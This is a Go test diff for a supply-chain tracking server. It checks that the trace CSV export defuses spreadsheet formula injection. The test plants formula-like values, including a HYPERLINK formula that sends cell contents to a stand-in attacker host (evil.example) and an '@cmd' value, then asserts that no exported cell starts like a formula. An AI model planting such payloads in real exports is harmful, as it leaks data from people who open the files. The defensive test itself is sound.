@@ -2,6 +2,7 @@ package server
 
 import (
 	"bytes"
+	"encoding/csv"
 	"io"
 	"mime/multipart"
 	"net/http"
@@ -9,6 +10,10 @@ import (
 	"net/url"
 	"strings"
 	"testing"
+
+	"github.com/plumbline/plumbline/internal/store"
+	"github.com/plumbline/plumbline/ledger/contract"
+	"github.com/plumbline/plumbline/models"
 )
 
 // browserTarget resolves a Location header the way a browser does: tabs
@@ -144,5 +149,50 @@ func TestReviewFormBodiesBounded(t *testing.T) {
 		if rec.Code >= 500 {
 			t.Errorf("POST %s: %d", tc.path, rec.Code)
 		}
+	}
+}
+
+// TestReviewTraceCSVFormulas: the trace CSV carries text other
+// organizations typed (locations, product and organization names, heat and
+// lot numbers). A cell that starts like a formula must not run as one when
+// a manager opens the file in a spreadsheet.
+func TestReviewTraceCSVFormulas(t *testing.T) {
+	f := newFixture(t, true)
+	pg, err := f.store.Batches(t.Context(), store.BatchFilter{Custodian: "zhongjian-no8", Status: models.StatusAvailable, Limit: 500})
+	if err != nil {
+		t.Fatal(err)
+	}
+	code := ""
+	for _, b := range pg.Items {
+		if b.Inspection.Usable() && b.Remaining.String() != "0" {
+			code = b.Code
+			break
+		}
+	}
+	if code == "" {
+		t.Fatal("no usable batch at the contractor")
+	}
+	formula := `=HYPERLINK("https://evil.example/?"&A1,"open")`
+	submitAs(t, f, "zhongjian-no8.operator", "RecordUsage", contract.RecordUsageArgs{Batch: code, Quantity: models.MustDecimal("0.001"),
+		Location: models.Location{Project: "+SUM(1,1)", Building: "@cmd", Floor: "-2+3", Element: formula}})
+	c := f.login(t, "hz-construction-bureau.viewer")
+	status, body := c.get(t, "/trace.csv?batch="+url.QueryEscape(code)+"&direction=forward")
+	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+	if status != http.StatusOK || err != nil {
+		t.Fatalf("trace.csv: %d %v", status, err)
+	}
+	found := false
+	for _, r := range rows {
+		for _, cell := range r {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("cell %q starts like a formula", cell)
+			}
+			if strings.Contains(cell, "HYPERLINK") {
+				found = true
+			}
+		}
+	}
+	if !found {
+		t.Errorf("the usage's element is missing from the CSV")
 	}
 }
